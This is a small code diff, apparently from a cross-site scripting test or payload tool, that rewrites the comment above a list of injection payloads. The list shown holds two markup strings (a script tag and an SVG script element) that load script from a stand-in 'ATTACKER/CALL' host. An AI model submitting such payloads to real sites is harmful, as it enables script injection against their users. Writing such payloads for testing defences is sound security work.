@@ -60,7 +60,7 @@ function nestings(): readonly Trick[] {
   });
 }
 
-/** Markup that would send a request. On a site that trusts its HTML, only the first payload works. */
+/** Markup that would send a request. It comes first, because later payloads break the markup of a site that trusts its HTML. */
 const REQUESTS: readonly string[] = [
   '<script src="ATTACKER/CALL"></script>',
   '<svg><script href="ATTACKER/CALL" /></svg>',
